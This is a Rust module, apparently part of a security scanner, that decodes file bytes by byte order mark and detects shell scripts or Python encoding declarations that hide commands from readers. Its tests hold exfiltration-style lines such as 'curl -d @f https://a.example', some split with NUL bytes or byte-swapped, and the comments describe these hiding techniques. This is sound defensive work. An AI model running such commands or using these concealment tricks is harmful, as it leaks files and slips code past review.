//! Bytes to text. Never fails: what is no text in any encoding becomes U+FFFD.

/// A wide encoding, known by its byte order mark.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) struct Wide {
    /// Bytes a unit: 2 or 4.
    width: usize,
    /// Whether the most significant byte comes first.
    big: bool,
}

/// The wide encoding that the byte order mark at the head names.
pub(super) fn wide(bytes: &[u8]) -> Option<Wide> {
    match bytes {
        [0xFF, 0xFE, 0, 0, ..] => Some(Wide { width: 4, big: false }),
        [0, 0, 0xFE, 0xFF, ..] => Some(Wide { width: 4, big: true }),
        [0xFF, 0xFE, ..] => Some(Wide { width: 2, big: false }),
        [0xFE, 0xFF, ..] => Some(Wide { width: 2, big: true }),
        _ => None,
    }
}

/// The text of `bytes`: UTF-16 or UTF-32 by their mark, else UTF-8. A mark stays, as U+FEFF.
/// `cut` says that more bytes follow: half a character at the end is then left off.
pub(super) fn text(bytes: &[u8], cut: bool) -> String {
    let Some(wide) = wide(bytes) else { return narrow(bytes, cut) };
    let units = bytes.chunks_exact(wide.width);
    let odd = narrow(units.remainder(), cut);
    let mut text: String = match wide.width {
        2 => char::decode_utf16(units.map(|unit| wide.number(unit) as u16))
            .map(|c| c.unwrap_or(char::REPLACEMENT_CHARACTER))
            .collect(),
        _ => units
            .map(|unit| char::from_u32(wide.number(unit)).unwrap_or(char::REPLACEMENT_CHARACTER))
            .collect(),
    };
    text.push_str(&odd);
    text
}

/// The text of a script as shells read it. They drop NUL bytes and know no wide encoding, so
/// neither a mark nor NULs strewn in may turn commands that run into something we can't read.
pub(super) fn script(bytes: &[u8], cut: bool) -> String {
    match wide(bytes) {
        Some(wide) if !wide.hides_narrow(bytes) => text(bytes, cut),
        _ if memchr::memchr(0, bytes).is_some() => {
            let bytes: Vec<u8> = bytes.iter().copied().filter(|&byte| byte != 0).collect();
            narrow(&bytes, cut)
        }
        _ => narrow(bytes, cut),
    }
}

fn narrow(bytes: &[u8], cut: bool) -> String {
    let half = match std::str::from_utf8(bytes) {
        Err(error) if cut && error.error_len().is_none() => bytes.len() - error.valid_up_to(),
        _ => 0,
    };
    String::from_utf8_lossy(&bytes[..bytes.len() - half]).into_owned()
}

impl Wide {
    fn number(self, unit: &[u8]) -> u32 {
        let push = |number: u32, byte: &u8| number << 8 | u32::from(*byte);
        if self.big { unit.iter().fold(0, push) } else { unit.iter().rev().fold(0, push) }
    }

    /// Whether a file with this mark holds ASCII that is not in this encoding: units made of two
    /// ASCII characters, or with the bytes the wrong way round. A few occur in honest Chinese
    /// text; taking that for narrow spoils its comments, but never the code.
    fn hides_narrow(self, bytes: &[u8]) -> bool {
        let is_text = |byte: &u8| matches!(byte, b'\t' | b'\n' | b'\r' | b' '..=b'~');
        let strange = |unit: &&[u8]| {
            let number = self.number(unit);
            match self.width {
                2 => unit.iter().all(is_text) || number & 0xFF == 0 && unit.iter().any(is_text),
                _ => char::from_u32(number).is_none(),
            }
        };
        bytes.chunks_exact(self.width).filter(strange).take(8).count() == 8
    }
}

/// Python's encodings in which ASCII bytes stand for themselves and are part of no other character, by
/// how their names begin; from its list of standard encodings, without punctuation. Left out on purpose:
/// EBCDIC (cp037, cp500, cp1140, …), cp864 with its own `%`, and what has ASCII for second bytes (Shift JIS, Big5, GBK, GB18030,
/// johab, cp932, cp936, cp949, cp950), where the `表` of a comment ends in a backslash.
const ASCII_SUPERSETS: &[&str] = &[
    "utf8",
    "u8",
    "ascii",
    "usascii",
    "646",
    "latin",
    "l1",
    "iso8859",
    "cp125",
    "cp437",
    "cp720",
    "cp737",
    "cp775",
    "cp85",
    "cp860",
    "cp861",
    "cp862",
    "cp863",
    "cp865",
    "cp866",
    "cp869",
    "cp874",
    "cp65001",
    "windows125",
    "euc",
    "ujis",
    "gb2312",
    "ks",
    "koi8",
    "mac",
    "tis620",
    "kz1048",
    "rk1048",
    "ptcp154",
];

/// The encoding a Python file declares in its first two lines (PEP 263), if ASCII bytes do not
/// stand for themselves in it: after `# coding: unicode_escape` the code is not what it seems.
pub(super) fn strange_python_encoding(text: &str) -> Option<&str> {
    let is_comment = |line: &&str| line.trim_start_matches(['\u{FEFF}', ' ', '\t', '\u{C}']).starts_with('#');
    let name = text.lines().take(2).filter(is_comment).find_map(declared_encoding)?;
    let plain: String = name.to_ascii_lowercase().chars().filter(|c| c.is_ascii_alphanumeric()).collect();
    (!ASCII_SUPERSETS.iter().any(|known| plain.starts_with(known))).then_some(name)
}

fn declared_encoding(line: &str) -> Option<&str> {
    line.match_indices("coding").find_map(|(at, word)| {
        let rest = line[at + word.len()..].strip_prefix([':', '='])?.trim_start_matches([' ', '\t']);
        let end =
            rest.find(|c: char| !(c.is_ascii_alphanumeric() || "-_.".contains(c))).unwrap_or(rest.len());
        (end > 0).then(|| &rest[..end])
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn utf16(text: &str) -> Vec<u8> {
        let units = std::iter::once(0xFEFF).chain(text.encode_utf16());
        units.flat_map(u16::to_le_bytes).collect()
    }

    #[test]
    fn decodes_by_mark_and_keeps_it() {
        assert_eq!(text(&utf16("é\n"), false), "\u{FEFF}é\n");
        assert_eq!(text(b"\xFE\xFF\0a\xD8\x00", false), "\u{FEFF}a\u{FFFD}");
        assert_eq!(text(b"\xFF\xFE\0\0a\0\0\0\xFF\xFF\xFF\xFF", false), "\u{FEFF}a\u{FFFD}");
        assert_eq!(text(b"\xEF\xBB\xBFa\xFFb", false), "\u{FEFF}a\u{FFFD}b");
    }

    #[test]
    fn a_cut_leaves_no_half_character() {
        assert_eq!(text(b"a\xC3", true), "a");
        assert_eq!(text(b"a\xC3", false), "a\u{FFFD}");
    }

    #[test]
    fn a_false_mark_or_nul_bytes_hide_no_script() {
        assert_eq!(script(&utf16("curl -d x https://a.example\n"), false).matches("curl").count(), 1);
        assert!(script(b"\xFF\xFE\ncurl -d @f https://a.example\n", false).contains("curl -d @f"));
        assert!(script(b"\xFF\xFE\ncu\0rl -\0d @f htt\0ps://a.ex\0ample\n", false).contains("curl -d @f"));
        // Big-endian units behind a little-endian mark: a shell sees plain ASCII.
        let swapped: Vec<u8> =
            b"\xFF\xFE\n\n".iter().copied().chain(b"curl -d @f".iter().flat_map(|&c| [0, c])).collect();
        assert!(script(&swapped, false).contains("curl -d @f"));
        assert_eq!(script(b"cu\0rl\n", false), "curl\n");
    }

    #[test]
    fn knows_python_encodings_that_hide_code() {
        assert_eq!(
            strange_python_encoding("#!/usr/bin/python\n# coding: unicode_escape\n"),
            Some("unicode_escape")
        );
        assert_eq!(strange_python_encoding("# -*- coding: utf-7 -*-"), Some("utf-7"));
        assert_eq!(strange_python_encoding("# -*- coding: utf-8 -*-"), None);
        assert_eq!(strange_python_encoding("# vim: set fileencoding=latin-1 :"), None);
        for plain in ["cp1252", "windows-1251", "iso-8859-15", "cp850", "euc_jp", "koi8-r", "mac_roman"] {
            assert_eq!(strange_python_encoding(&format!("# coding: {plain}")), None, "{plain}");
        }
        // EBCDIC, and encodings whose second bytes are ASCII.
        for strange in [
            "cp037",
            "cp500",
            "cp1140",
            "cp875",
            "cp1026",
            "shift_jis",
            "sjis",
            "big5",
            "gbk",
            "gb18030",
            "cp932",
        ] {
            assert_eq!(strange_python_encoding(&format!("# coding: {strange}")), Some(strange));
        }
        assert_eq!(strange_python_encoding("x = 1\ny = 2\n# coding: rot13"), None);
        assert_eq!(strange_python_encoding("# decoding and coding=rot13"), Some("rot13"));
    }
}
